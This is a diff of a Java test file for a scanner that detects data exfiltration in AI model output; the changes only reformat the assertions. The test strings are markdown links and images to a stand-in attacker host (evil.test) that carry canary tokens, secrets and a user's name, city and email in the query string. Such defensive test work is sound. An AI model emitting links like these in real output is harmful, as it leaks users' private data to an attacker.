@@ -82,11 +82,13 @@ class ExfiltrationScannerCorpusTest {
                 List.of("cnry-7f3k"),
                 Optional.empty());
         var leak = NORMALIZER.normalize("[x](https://evil.test/?c=WINTER-ALPHA-2026)", ScanText.Stage.OUTPUT);
-        assertThat(SCANNER.scan(leak, ctx)).singleElement().satisfies(f -> assertThat(f.score())
-                .isGreaterThanOrEqualTo(0.85));
+        assertThat(SCANNER.scan(leak, ctx))
+                .singleElement()
+                .satisfies(f -> assertThat(f.score()).isGreaterThanOrEqualTo(0.85));
         var canary = NORMALIZER.normalize("[x](https://evil.test/?c=abc-cnry-7f3k)", ScanText.Stage.OUTPUT);
-        assertThat(SCANNER.scan(canary, ctx)).singleElement().satisfies(f -> assertThat(f.score())
-                .isGreaterThanOrEqualTo(0.9));
+        assertThat(SCANNER.scan(canary, ctx))
+                .singleElement()
+                .satisfies(f -> assertThat(f.score()).isGreaterThanOrEqualTo(0.9));
     }
 
     @Test
@@ -95,13 +97,17 @@ class ExfiltrationScannerCorpusTest {
         List<Finding> found = scan(text);
         assertThat(found).singleElement().satisfies(f -> {
             assertThat(f.type()).isEqualTo("IMAGE_EXFILTRATION");
-            assertThat(text.substring(f.start(), f.end())).startsWith("https://ev").endsWith("==");
+            assertThat(text.substring(f.start(), f.end()))
+                    .startsWith("https://ev")
+                    .endsWith("==");
         });
     }
 
     @Test
     void strongerEvidenceScoresHigher() {
-        double weak = scan("[a](https://evil.test/?id=a7Hf92KdLq0Zx3Vb8Nm4Tr6Yp1)").get(0).score();
+        double weak = scan("[a](https://evil.test/?id=a7Hf92KdLq0Zx3Vb8Nm4Tr6Yp1)")
+                .get(0)
+                .score();
         double strong = scan("[a](https://evil.test/?d=the+user+is+called+Jane+and+lives+in+Paris&e=jane%40x.example)")
                 .get(0)
                 .score();
